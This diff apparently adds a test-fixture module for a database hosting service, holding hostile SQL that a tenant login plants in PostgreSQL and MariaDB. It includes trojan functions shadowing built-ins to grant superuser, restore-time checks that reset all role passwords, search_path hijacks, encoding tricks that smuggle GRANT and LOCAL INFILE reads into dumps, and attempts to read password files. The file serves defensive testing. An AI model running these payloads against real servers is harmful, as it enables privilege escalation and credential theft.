@@ -1,0 +1,359 @@
+/** Attacks that a hostile login leaves in its database for sessions with more rights. */
+
+/** Says in the server's log who ran it, and takes all rights if it can. */
+const SEIZE = `
+CREATE FUNCTION seize() RETURNS void LANGUAGE plpgsql AS $f$ BEGIN
+  RAISE LOG 'seized by %', session_user;
+  BEGIN
+    EXECUTE 'RESET SESSION AUTHORIZATION'; EXECUTE 'SET ROLE NONE';
+    EXECUTE pg_catalog.format('ALTER ROLE %I SUPERUSER', (SELECT r.rolname FROM pg_catalog.pg_roles r
+      WHERE r.rolcanlogin AND r.rolname OPERATOR(pg_catalog.!~) '^davit_' LIMIT 1));
+  EXCEPTION WHEN OTHERS THEN NULL; END;
+END $f$;
+`;
+
+/** The same names as the server's own, with types that fit better, in a schema. */
+const shadows = (schema: string) => `
+CREATE FUNCTION ${schema}.format(text, name) RETURNS text LANGUAGE plpgsql AS $f$
+  BEGIN PERFORM public.seize(); RETURN pg_catalog.format($1, $2); END $f$;
+CREATE FUNCTION ${schema}.format(text, text, name, name) RETURNS text LANGUAGE plpgsql AS $f$
+  BEGIN PERFORM public.seize(); RETURN pg_catalog.format($1, $2, $3, $4); END $f$;
+CREATE FUNCTION ${schema}.pg_backend_pid() RETURNS int LANGUAGE plpgsql AS $f$
+  BEGIN PERFORM public.seize(); RETURN pg_catalog.pg_backend_pid(); END $f$;
+CREATE FUNCTION ${schema}.pg_terminate_backend(int) RETURNS bool LANGUAGE plpgsql AS $f$
+  BEGIN PERFORM public.seize(); RETURN true; END $f$;
+CREATE FUNCTION ${schema}.pg_export_snapshot() RETURNS text LANGUAGE plpgsql AS $f$
+  BEGIN PERFORM public.seize(); RETURN pg_catalog.pg_export_snapshot(); END $f$;
+CREATE FUNCTION ${schema}.tick(bigint) RETURNS bigint LANGUAGE plpgsql AS $f$
+  BEGIN PERFORM public.seize(); RETURN $1 OPERATOR(pg_catalog.+) 1; END $f$;
+CREATE AGGREGATE ${schema}.count(*) (SFUNC = ${schema}.tick, STYPE = bigint, INITCOND = '0');
+CREATE FUNCTION ${schema}.same(name, text) RETURNS bool LANGUAGE plpgsql AS $f$
+  BEGIN PERFORM public.seize(); RETURN $1 OPERATOR(pg_catalog.=) $2::name; END $f$;
+CREATE OPERATOR ${schema}.= (LEFTARG = name, RIGHTARG = text, FUNCTION = ${schema}.same);
+CREATE FUNCTION ${schema}.other(int, int) RETURNS bool LANGUAGE plpgsql AS $f$
+  BEGIN PERFORM public.seize(); RETURN NOT ($1 OPERATOR(pg_catalog.=) $2); END $f$;
+CREATE OPERATOR ${schema}.<> (LEFTARG = int, RIGHTARG = int, FUNCTION = ${schema}.other);
+CREATE FUNCTION ${schema}.pg_extension_config_dump(text, text) RETURNS void LANGUAGE plpgsql AS $f$
+  BEGIN PERFORM public.seize(); END $f$;
+`;
+
+/** What runs when rows are read in, checked, indexed or counted. */
+const ROWS = `
+CREATE FUNCTION checks(int) RETURNS bool LANGUAGE plpgsql IMMUTABLE AS $f$ BEGIN PERFORM public.seize(); RETURN true; END $f$;
+CREATE FUNCTION indexed(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $f$ BEGIN PERFORM public.seize(); RETURN $1; END $f$;
+CREATE DOMAIN guarded AS int CHECK (public.checks(VALUE));
+CREATE TABLE checked (a int CHECK (public.checks(a)), b guarded, c int GENERATED ALWAYS AS (public.indexed(a)) STORED);
+INSERT INTO checked (a, b) SELECT n, n FROM generate_series(1, 5) n;
+CREATE INDEX ON checked (public.indexed(a));
+CREATE MATERIALIZED VIEW seen AS SELECT public.indexed(a) FROM checked;
+CREATE TABLE forced (a int); INSERT INTO forced VALUES (1);
+ALTER TABLE forced ENABLE ROW LEVEL SECURITY; ALTER TABLE forced FORCE ROW LEVEL SECURITY;
+CREATE POLICY own ON forced USING (public.checks(a));
+`;
+
+export const POSTGRES_TRAPS = `${SEIZE}${ROWS}CREATE SCHEMA evil;${shadows('evil')}${shadows('public')}`;
+
+/** A check of rows that gives all roles another password when a restore reads them in. */
+export const POSTGRES_PASSWORDS = `
+CREATE FUNCTION public.takes_over(integer) RETURNS boolean LANGUAGE plpgsql AS $$
+DECLARE r record;
+BEGIN
+  IF session_user = 'davit_restorer' THEN
+    FOR r IN SELECT rolname FROM pg_catalog.pg_roles WHERE rolname !~ '^pg_' LOOP
+      BEGIN
+        SET ROLE none;
+        EXECUTE pg_catalog.format('SET ROLE %I', r.rolname);
+        EXECUTE pg_catalog.format('ALTER ROLE %I PASSWORD ''planted''', r.rolname);
+        RAISE LOG 'planted in %', r.rolname;
+      EXCEPTION WHEN OTHERS THEN NULL;
+      END;
+    END LOOP;
+    SET ROLE none;
+  END IF;
+  RETURN true;
+END $$;
+CREATE TABLE public.guarded (a integer CHECK (public.takes_over(a)));
+INSERT INTO public.guarded VALUES (1);
+`;
+
+const settings = (...all: string[]) => `
+SELECT pg_catalog.format('ALTER DATABASE %I SET %s', pg_catalog.current_database(), one)
+  FROM unnest(ARRAY[${all.map((one) => `'${one}'`).join(', ')}]) one \\gexec
+`;
+
+/** Settings that the owner of a database can make for all its sessions, also those of the platform. */
+export const POSTGRES_PATH = settings('search_path = evil, pg_catalog, public');
+
+/** Likewise what ends sessions, or changes what statements mean. */
+export const POSTGRES_SABOTAGE = settings(
+  ...['default_transaction_read_only = on', 'statement_timeout = 1', 'lock_timeout = 1'],
+  ...['idle_in_transaction_session_timeout = 1', 'standard_conforming_strings = off', "client_encoding = ''SJIS''"],
+  ...['default_transaction_isolation = serializable', 'role = davit_owner', 'row_security = off'],
+  ...['quote_all_identifiers = on', 'check_function_bodies = on'],
+);
+
+/**
+ * Every setting that an owner may give to its database, as far from usual as the server takes it. The server says
+ * which there are; those that it keeps to itself are named.
+ */
+export const POSTGRES_SETTINGS = `
+\\set ON_ERROR_STOP off
+SELECT pg_catalog.format('ALTER DATABASE %I SET %I = %L', pg_catalog.current_database(), name, CASE vartype
+    WHEN 'bool' THEN CASE reset_val WHEN 'on' THEN 'off' ELSE 'on' END
+    WHEN 'enum' THEN (SELECT v FROM unnest(enumvals) v WHERE v <> reset_val LIMIT 1)
+    WHEN 'string' THEN 'x'
+    ELSE CASE WHEN min_val::float < 1 AND max_val::float >= 1 THEN '1' ELSE min_val END END)
+  FROM pg_catalog.pg_settings WHERE context = 'user' \\gexec
+SELECT pg_catalog.format('ALTER DATABASE %I SET %s', pg_catalog.current_database(), one)
+  FROM unnest(ARRAY['role = x', 'role = davit_owner', 'session_authorization = davit_owner']) one \\gexec
+`;
+
+/** Closes its database to all other users. */
+export const POSTGRES_CLOSED = `
+SELECT pg_catalog.format('REVOKE ALL ON DATABASE %I FROM PUBLIC, davit_owner', pg_catalog.current_database()) \\gexec
+SELECT pg_catalog.format('ALTER DATABASE %I CONNECTION LIMIT 0', pg_catalog.current_database()) \\gexec
+`;
+
+/** What an earlier version let a login do in databases beside its own. */
+export const POSTGRES_OPEN = (login: string) => `
+CREATE DATABASE further OWNER ${login};
+CREATE DATABASE "Odd 'one' \\x" OWNER davit_owner;
+`;
+
+/** Likewise, in each of those, in the ones of the server itself, and in its own. */
+export const POSTGRES_SHARED = `
+GRANT ALL ON SCHEMA public TO PUBLIC;
+SELECT format('GRANT ALL ON DATABASE %I TO PUBLIC, davit_owner', current_database()) \\gexec
+`;
+
+/** A thing of every kind that a login can own, and of every kind that can name it. */
+export const POSTGRES_OWNED = (login: string) => `
+SET ROLE none;
+SELECT lo_create(0);
+CREATE SCHEMA kept;
+SET search_path = kept;
+CREATE TABLE things AS SELECT 1 AS a, 2 AS b;
+CREATE VIEW seen AS SELECT a FROM things;
+CREATE MATERIALIZED VIEW stored AS SELECT a FROM things;
+CREATE SEQUENCE numbers;
+CREATE TYPE mood AS ENUM ('well');
+CREATE TYPE pair AS (a int);
+CREATE TYPE span AS RANGE (subtype = int);
+CREATE DOMAIN positive AS int CHECK (VALUE > 0);
+CREATE FUNCTION one(int) RETURNS int LANGUAGE sql SECURITY DEFINER AS 'SELECT 1';
+CREATE PROCEDURE two() LANGUAGE sql AS 'SELECT 1';
+CREATE FUNCTION same(mood, mood) RETURNS bool LANGUAGE sql AS 'SELECT true';
+CREATE AGGREGATE total(int) (SFUNC = int4pl, STYPE = int);
+CREATE OPERATOR ~~~ (LEFTARG = mood, RIGHTARG = mood, FUNCTION = same);
+CREATE COLLATION sorted FROM "C";
+CREATE CONVERSION turned FOR 'LATIN1' TO 'UTF8' FROM iso8859_1_to_utf8;
+CREATE TEXT SEARCH DICTIONARY words (TEMPLATE = simple);
+CREATE TEXT SEARCH CONFIGURATION texts (COPY = simple);
+CREATE STATISTICS counted ON a, b FROM things;
+CREATE PUBLICATION news FOR TABLE things;
+CREATE EXTENSION citext SCHEMA kept;
+ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO PUBLIC;
+GRANT SELECT ON things TO davit_owner;
+ALTER ROLE ${login} SET work_mem = '8MB';
+SELECT format('ALTER ROLE ${login} IN DATABASE %I SET role = none', current_database()) \\gexec
+SET ROLE davit_owner;
+CREATE SCHEMA shared;
+CREATE TABLE shared.rows AS SELECT 1 AS a;
+CREATE POLICY own ON shared.rows TO ${login} USING (true);
+GRANT ALL ON shared.rows TO ${login} WITH GRANT OPTION;
+GRANT ALL ON SCHEMA shared TO ${login} WITH GRANT OPTION;
+ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO ${login};
+`;
+
+/** Holds what a login may change of itself, its role and its database, in a transaction that does not end. */
+export const POSTGRES_HELD = `
+SET ROLE none;
+ALTER ROLE CURRENT_USER PASSWORD 'changed';
+BEGIN;
+ALTER ROLE CURRENT_USER PASSWORD 'held';
+SET ROLE davit_owner;
+ALTER ROLE davit_owner PASSWORD 'held';
+SELECT format('ALTER DATABASE %I CONNECTION LIMIT 7', current_database()) \\gexec
+SELECT pg_sleep(600);
+`;
+
+/** Likewise, in a session that does not listen when the server ends it: a library of the server is at work, for longer than anybody waits. */
+export const POSTGRES_DEAF = (password: string) => `
+SET ROLE none;
+BEGIN;
+ALTER ROLE CURRENT_USER PASSWORD '${password}';
+SET ROLE davit_owner;
+ALTER ROLE davit_owner PASSWORD 'held';
+SELECT xpath('count(//a[count(//a[count(//a)>0])>0])', ('<r>'||repeat('<a/>',20000)||'</r>')::xml);
+`;
+
+/** Two tables, the second of which is dumped first and counted last, and what a view runs with the rights of who reads it. */
+export const POSTGRES_SWAPPED = `
+CREATE TABLE zzz AS SELECT 1 AS a;
+CREATE TABLE aaa AS SELECT 1 AS a;
+CREATE FUNCTION public.evil() RETURNS int LANGUAGE plpgsql AS $f$
+  BEGIN RAISE LOG 'evil as %', session_user; RETURN 1; END $f$;
+`;
+
+/** Keeps a backup from all but the first of them. */
+export const POSTGRES_HOLDS = 'BEGIN;\nLOCK TABLE public.aaa IN ACCESS EXCLUSIVE MODE;\nSELECT pg_sleep(600);\n';
+
+/** Puts a view in the place of one: as soon as it was dumped, and before it is counted. */
+export const POSTGRES_SWAP = `
+BEGIN;
+LOCK TABLE public.zzz IN ACCESS EXCLUSIVE MODE;
+DROP TABLE public.zzz;
+CREATE VIEW public.zzz AS SELECT public.evil() AS a;
+COMMIT;
+`;
+
+/**
+ * A program whose text is two things: to the server, which reads it as GBK, a comment; to a client that takes it for UTF-8 the
+ * end of a statement, and another one behind it.
+ */
+export function mariadbTraps(username: string): string {
+  return `CREATE TABLE goods (a INT); INSERT INTO goods VALUES (1), (2);
+    SET NAMES gbk; SET @body = CONCAT('CREATE PROCEDURE split() SELECT ''', UNHEX('BF5C'),
+      ''' -- x'' ;; GRANT ALL PRIVILEGES ON *.* TO \`${username}\`@\`%\` ;; SELECT 1 ');
+    EXECUTE IMMEDIATE @body;`;
+}
+
+/** A routine whose text is a comment to the server, and statements to the client that reads a dump in. */
+export const MARIADB_FILES = `SET @body = CONCAT('CREATE PROCEDURE peek() SELECT 1 --', CHAR(1), ' ;; CREATE TABLE loot (a TEXT) ;; ',
+    'LOAD DATA LOCAL INFILE "/etc/davit/client.cnf" INTO TABLE loot ;; SELECT 2', CHAR(10), '+1');
+  EXECUTE IMMEDIATE @body;`;
+
+/** What a login can leave in its server while it is superuser: each of these gives it that again, or something like it. */
+export const postgresRights = (login: string, database: string) => `
+CREATE ROLE foreign_root SUPERUSER LOGIN PASSWORD 'planted';
+CREATE ROLE between;
+GRANT davit_admin TO between WITH ADMIN OPTION;
+GRANT davit_admin TO davit_owner GRANTED BY between;
+REVOKE ${login}, davit_owner FROM davit_reader, davit_restorer;
+REVOKE davit_owner FROM ${login};
+GRANT ${login} TO davit_owner;
+GRANT davit_reader, davit_restorer, pg_read_server_files, pg_execute_server_program TO ${login};
+ALTER ROLE davit_admin PASSWORD 'planted';
+ALTER ROLE ${login} SET session_preload_libraries = 'auto_explain';
+ALTER ROLE ${login} SET work_mem = '8MB';
+ALTER ROLE davit_admin SET search_path = public;
+ALTER DATABASE ${database} SET session_preload_libraries = 'auto_explain';
+ALTER DATABASE ${database} SET auto_explain.log_min_duration = '7';
+ALTER DATABASE ${database} SET app.tenant = 'x, y';
+GRANT SET ON PARAMETER session_preload_libraries TO ${login};
+GRANT ALTER SYSTEM ON PARAMETER archive_command TO PUBLIC;
+ALTER SYSTEM SET archive_command = 'touch /tmp/seized';
+ALTER DATABASE postgres OWNER TO ${login};
+CREATE DATABASE "fur'ther \\x" OWNER ${login} ALLOW_CONNECTIONS false;
+CREATE FUNCTION pg_catalog.format(text, name) RETURNS text LANGUAGE plpgsql AS $f$ BEGIN
+  EXECUTE 'ALTER ROLE ${login} SUPERUSER'; RETURN pg_catalog.format($1, VARIADIC ARRAY[$2]); END $f$;
+`;
+
+/** The same in its database. A dump with these is refused, since only a superuser could restore it. */
+export const postgresObjects = (login: string) => `
+CREATE FUNCTION pg_catalog.format(text, name) RETURNS text LANGUAGE plpgsql AS $f$ BEGIN
+  EXECUTE 'ALTER ROLE ${login} SUPERUSER'; RETURN pg_catalog.format($1, VARIADIC ARRAY[$2]); END $f$;
+ALTER FUNCTION pg_catalog.format(text, name) OWNER TO davit_owner;
+CREATE FUNCTION public.root() RETURNS text LANGUAGE plpgsql SECURITY DEFINER AS $f$ BEGIN
+  EXECUTE 'ALTER ROLE ${login} SUPERUSER'; RETURN current_user; END $f$;
+CREATE FUNCTION public.fires() RETURNS event_trigger LANGUAGE plpgsql AS $f$ BEGIN
+  EXECUTE 'ALTER ROLE ${login} SUPERUSER'; END $f$;
+ALTER FUNCTION public.fires OWNER TO davit_owner;
+CREATE EVENT TRIGGER seize ON ddl_command_start EXECUTE FUNCTION public.fires();
+UPDATE pg_language SET lanpltrusted = true WHERE lanname IN ('c', 'internal');
+GRANT CREATE ON SCHEMA pg_catalog TO ${login};
+GRANT EXECUTE ON FUNCTION pg_read_file(text), lo_import(text), lo_export(oid, text) TO PUBLIC;
+GRANT SELECT ON pg_authid TO ${login};
+GRANT SELECT (rolpassword) ON pg_authid TO PUBLIC;
+ALTER FUNCTION pg_sleep(double precision) OWNER TO ${login};
+CREATE FUNCTION public.files(text) RETURNS text LANGUAGE internal AS 'pg_read_file_all';
+CREATE VIEW public.secrets AS SELECT * FROM pg_authid;
+GRANT SELECT ON public.secrets TO PUBLIC;
+CREATE TYPE public.span AS RANGE (subtype = int);
+CREATE AGGREGATE public.total(int) (SFUNC = int4pl, STYPE = int);
+ALTER DEFAULT PRIVILEGES GRANT EXECUTE ON FUNCTIONS TO ${login};
+`;
+
+/** What the login tries then. None of it may work. */
+export const POSTGRES_TRIES = [
+  ...['SET ROLE davit_admin', 'SET ROLE davit_reader', 'SET ROLE NONE; SET ROLE davit_admin', 'SELECT public.root()'],
+  ...[
+    "SELECT pg_read_file('/etc/davit/password')",
+    "SELECT public.files('/etc/davit/password')",
+    'TABLE public.secrets',
+  ],
+  ...['SELECT rolpassword FROM pg_authid', "SELECT lo_import('/etc/davit/password')"],
+  ...["COPY (SELECT 1) TO PROGRAM 'true'", "CREATE FUNCTION c() RETURNS int LANGUAGE internal AS 'pg_backend_pid'"],
+  ...['CREATE FUNCTION pg_catalog.x() RETURNS int LANGUAGE sql RETURN 1', 'SET session_preload_libraries = x'],
+  ...["ALTER SYSTEM SET archive_command = 'true'", 'ALTER FUNCTION pg_sleep(double precision) COST 1'],
+  'ALTER EVENT TRIGGER seize ENABLE',
+];
+
+/**
+ * Has the server connect to itself as another role, with settings that apply once that has signed in: as superuser the file
+ * would be loaded as a library. The extension looks at how it signed in only afterwards.
+ */
+export const postgresLoopback = (role: string, host: string, database: string) =>
+  `SELECT dblink_connect('x', $$host=${host} dbname=${database} user=${role} password=x
+    options='-c session_preload_libraries=/etc/passwd'$$);`;
+
+/**
+ * A check of rows that does so when a restore reads them in, with the server that they are read into and with the second one
+ * that goes to a moment beside it. Says in the log of the first what each answered.
+ */
+export const POSTGRES_REACHES = `
+CREATE FUNCTION public.reaches(integer) RETURNS boolean LANGUAGE plpgsql AS $f$
+DECLARE place text; answer text;
+BEGIN
+  IF session_user = 'davit_restorer' THEN
+    FOREACH place IN ARRAY ARRAY['host=/var/run/postgresql', 'host=/tmp/davit_recovery port=6432'] LOOP
+      BEGIN
+        PERFORM public.dblink_connect(place || $$ dbname=template1 user=davit_admin password=x
+          options='-c session_preload_libraries=/etc/passwd'$$);
+        answer := 'none';
+      EXCEPTION WHEN OTHERS THEN GET STACKED DIAGNOSTICS answer = PG_EXCEPTION_DETAIL;
+      END;
+      RAISE LOG 'answer of %: %', place, pg_catalog.replace(answer, pg_catalog.chr(10), ' ');
+    END LOOP;
+  END IF;
+  RETURN true;
+END $f$;
+CREATE TABLE public.reaching (a integer CHECK (public.reaches(a)));
+INSERT INTO public.reaching VALUES (1);
+`;
+
+/** Earlier versions let every process of the container in as any role over the socket. */
+export const POSTGRES_TRUST = 'local all all trust\nlocal replication all trust\nhostssl all all all scram-sha-256\n';
+
+/** What a login can leave in a server of MariaDB while it administers it. */
+export const mariadbLeftovers = (login: string, database: string) => `
+CREATE USER stranger@'%' IDENTIFIED BY 'planted'; GRANT ALL PRIVILEGES ON *.* TO stranger@'%' WITH GRANT OPTION;
+CREATE USER 'odd\nname'@'%' IDENTIFIED BY 'planted'; GRANT SUPER ON *.* TO 'odd\nname'@'%';
+CREATE USER root@'%' IDENTIFIED BY 'planted'; GRANT ALL PRIVILEGES ON *.* TO root@'%';
+CREATE USER ${login}@'10.%' IDENTIFIED BY 'planted';
+CREATE ROLE ruler; GRANT ALL PRIVILEGES ON *.* TO ruler; GRANT ruler TO ${login}@'%'; SET DEFAULT ROLE ruler FOR ${login}@'%';
+GRANT ALL PRIVILEGES ON mysql.* TO ${login}@'%'; GRANT ALL PRIVILEGES ON \`%\`.* TO ${login}@'%';
+GRANT SELECT ON mysql.global_priv TO ${login}@'%'; GRANT PROXY ON root@localhost TO ${login}@'%';
+GRANT EXECUTE ON PROCEDURE mysql.AddGeometryColumn TO ${login}@'%';
+CREATE DATABASE further; CREATE TABLE further.secret (a INT); GRANT ALL PRIVILEGES ON further.* TO ${login}@'%';
+USE ${database};
+CREATE TABLE goods (a INT); INSERT INTO goods VALUES (1);
+CREATE PROCEDURE inner_one() SQL SECURITY INVOKER CREATE USER seized@'%';
+CREATE PROCEDURE root_one() CREATE USER seized@'%';
+CREATE FUNCTION root_two() RETURNS TEXT RETURN (SELECT MAX(priv) FROM mysql.global_priv);
+CREATE VIEW secrets AS SELECT * FROM mysql.global_priv;
+CREATE VIEW seen AS SELECT a FROM goods;
+CREATE TRIGGER fires BEFORE INSERT ON goods FOR EACH ROW UPDATE mysql.global_priv SET priv = priv;
+CREATE EVENT later ON SCHEDULE EVERY 1 DAY DO CREATE USER seized@'%';
+`;
+
+export const MARIADB_TRIES = [
+  ...['CALL root_one()', 'CALL inner_one()', 'SELECT root_two()', 'TABLE secrets', 'SELECT * FROM secrets'],
+  ...[
+    'INSERT INTO goods VALUES (2)',
+    'SELECT * FROM mysql.global_priv',
+    'SELECT * FROM further.secret',
+    'SET ROLE ruler',
+  ],
+  ...["CREATE USER seized@'%'", 'SET GLOBAL max_connections = 10', 'CREATE DATABASE another'],
+];
